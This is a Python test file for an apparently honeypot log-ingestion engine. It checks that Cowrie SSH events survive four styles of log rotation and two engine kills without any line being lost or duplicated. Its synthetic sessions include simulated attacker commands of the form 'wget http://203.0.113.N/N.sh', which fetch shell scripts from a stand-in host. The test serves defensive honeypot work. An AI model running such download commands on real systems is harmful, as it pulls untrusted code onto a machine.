"""A live engine behind logs that are rotated in four styles under load and killed twice: exactly the lines written.

Each style has its writer, whose every line is really on disk in one of the files: it rotates between two lines, or in the
middle of one, with both halves written. The writer that truncates waits until its lines were read; what it cuts is gone.
"""

from __future__ import annotations

import gzip
import json
import os
import shutil
import sqlite3
from abc import ABC, abstractmethod
from collections import Counter
from contextlib import ExitStack, closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.programkit import daemon, listed, until

ROUNDS = 20
KILLS = (6, 13)
SESSIONS = 6
"""Sessions that each writer writes between two rotations."""
START = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
SURROUNDING = {"DECNET_RUNTIME__HEARTBEAT_S": "0.5", "DECNET_BUS__ACK_WAIT_S": "2"}
"""What a killed engine was given and had not acknowledged comes again only when its time is over."""
WITHIN_S = 60.0
Found = Counter[tuple[str, str]]


class Writer(ABC):
    """Writes whole sessions into one log, and rotates it in its style; knows each command that it wrote."""

    def __init__(self, top: Path) -> None:
        self.name = type(self).__name__.lower()
        self.log = top / self.name / "cowrie.json"
        self.log.parent.mkdir(parents=True)
        self.written: Found = Counter()
        self.clock = START
        self.number = 0
        self.fd = self._open()

    def _open(self) -> int:
        return os.open(self.log, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)

    def lines(self) -> list[bytes]:
        """One more session: connection, log-in, two commands, end."""
        self.number += 1
        session = f"{self.name[:2]}{self.number:06x}"
        commands = [
            f"echo {self.name} {self.number}",
            f"wget http://203.0.113.{self.number % 250}/{self.number}.sh",
        ]
        self.written.update((session, command) for command in commands)
        steps = [
            {"eventid": "cowrie.session.connect", "protocol": "ssh"},
            {"eventid": "cowrie.login.success", "username": "root", "password": f"p{self.number}"},
            *({"eventid": "cowrie.command.input", "input": command} for command in commands),
            {"eventid": "cowrie.session.closed", "duration": 3.0},
        ]
        return [self._line(session, step) for step in steps]

    def _line(self, session: str, step: dict[str, object]) -> bytes:
        self.clock += timedelta(milliseconds=250)
        stamp = self.clock.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        about = {"session": session, "sensor": self.name, "timestamp": stamp, "src_ip": "198.51.100.7"}
        return json.dumps({**step, **about}).encode() + b"\n"

    def turn(self, number: int) -> None:
        """Some sessions, and a rotation: every other time in the middle of a line."""
        todo = [line for _ in range(SESSIONS) for line in self.lines()]
        for line in todo[:-3]:
            os.write(self.fd, line)
        half = len(todo[-3]) // 2 if number % 2 else 0
        os.write(self.fd, todo[-3][:half])
        self.rotate(number)
        os.write(self.fd, todo[-3][half:] + b"".join(todo[-2:]))

    @abstractmethod
    def rotate(self, number: int) -> None:
        """Moves what was written so far out of the way."""

    def shift(self) -> None:
        """``.1`` becomes ``.2.gz`` and so on, as logrotate does with delaycompress."""
        for n in range(ROUNDS + 1, 1, -1):
            if (old := Path(f"{self.log}.{n}.gz")).exists():
                old.rename(f"{self.log}.{n + 1}.gz")
        if (first := Path(f"{self.log}.1")).exists():
            Path(f"{self.log}.2.gz").write_bytes(gzip.compress(first.read_bytes()))
            first.unlink()


class Renamed(Writer):
    """logrotate's ``create``: the writer is told, and opens a new file."""

    def rotate(self, number: int) -> None:
        self.shift()
        self.log.rename(f"{self.log}.1")
        os.close(self.fd)
        self.fd = self._open()


class Copied(Writer):
    """``copytruncate`` under a writer that appends."""

    def rotate(self, number: int) -> None:
        self.shift()
        shutil.copy(self.log, f"{self.log}.1")
        os.truncate(self.log, 0)


class Holed(Copied):
    """``copytruncate`` under a writer that goes on at its old place."""

    def _open(self) -> int:
        return os.open(self.log, os.O_WRONLY | os.O_CREAT, 0o600)


class Emptied(Writer):
    """A daemon that starts its log anew: what it held is gone."""

    def __init__(self, top: Path, data: Path) -> None:
        super().__init__(top)
        self.data = data

    def turn(self, number: int) -> None:
        super().turn(number)
        until(lambda: in_database(self.data, self.name) == self.written, 60, f"{self.name}: {number}")

    def rotate(self, number: int) -> None:
        """Between two lines, after a wait: so there is nothing in the file that was not read."""

    def begin(self) -> None:
        os.close(self.fd)
        os.truncate(self.log, 0)
        self.fd = self._open()


def in_database(data: Path, decky: str) -> Found:
    """Session and text of every command that is stored of a sensor; a command stored twice counts twice."""
    try:
        with closing(sqlite3.connect(f"file:{data / 'decnet.sqlite'}?mode=ro", uri=True)) as db:
            rows = db.execute(
                "SELECT s.sensor_session, c.command_text FROM command c JOIN session s USING (session_id)"
                " WHERE s.decky_id = ?",
                (decky,),
            )
            return Counter((session, text) for session, text in rows)
    except sqlite3.OperationalError:
        return Counter()


def seen(data: Path, truncations: int) -> dict[str, dict[str, Any]]:
    """What the engine says of each sensor, once it has told of so many truncations."""
    rows = {Path(row["path"]).name: row for row in listed("sensors", data)}
    return rows if rows["emptied"]["truncations"] >= truncations else {}


def sessions_in(data: Path) -> Found:
    """Every session that is stored, by its sensor and the honeypot's own id."""
    with closing(sqlite3.connect(f"file:{data / 'decnet.sqlite'}?mode=ro", uri=True)) as db:
        return Counter(
            (decky, session) for decky, session in db.execute("SELECT decky_id, sensor_session FROM session")
        )


@pytest.mark.fault(
    fault="four ways of rotation under a log that grows, and the engine killed twice",
    guard="files are known by inode and head; the checkpoint moves after the broker has stored",
    control="mutant sensors-saved-before-published",
    figure="80 rotations, lost 0, doubled 0",
)
@pytest.mark.slow
@pytest.mark.timeout(300)
def test_every_line_is_stored_once_whatever_rotates_the_log_and_whoever_kills_the_engine(
    tmp_path: Path,
) -> None:
    data, top = tmp_path / "data", tmp_path / "logs"
    emptied = Emptied(top, data)
    others = [Renamed(top), Copied(top), Holed(top)]
    writers = [*others, emptied]
    sensors = [word for w in writers for word in ("--sensor", f"cowrie={w.log.parent}")]
    command = (*sensors, "--workers", "sensors,recorder")
    with ExitStack() as stack:
        engine = stack.enter_context(daemon(data, tmp_path / "engine.log", *command, surrounding=SURROUNDING))
        for number in range(ROUNDS):
            if number in KILLS:
                engine.kill()
            for writer in others:
                writer.turn(number)
            if number in KILLS:
                engine = stack.enter_context(
                    daemon(data, tmp_path / "engine.log", *command, surrounding=SURROUNDING)
                )
            emptied.turn(number)
            emptied.begin()
        for writer in writers:
            until(lambda w=writer: in_database(data, w.name) == w.written, WITHIN_S, writer.name)
        rows = until(
            lambda: seen(data, ROUNDS - len(KILLS)), WITHIN_S, "a heartbeat that tells of the last truncation"
        )
    for writer in writers:
        assert in_database(data, writer.name) == writer.written
        assert len(writer.written) == 2 * SESSIONS * ROUNDS
    assert sessions_in(data) == Counter({(w.name, session): 1 for w in writers for session, _ in w.written})
    assert listed("deadletters", data) == []
    assert {name: row["refused"] for name, row in rows.items()} == dict.fromkeys(rows, 0)
    assert {name: row["lost_bytes"] for name, row in rows.items()} == dict.fromkeys(rows, 0)
    assert min(rows[w.name]["rotations"] for w in others) >= ROUNDS // 2
    assert {rows[w.name]["truncations"] for w in others} == {0}
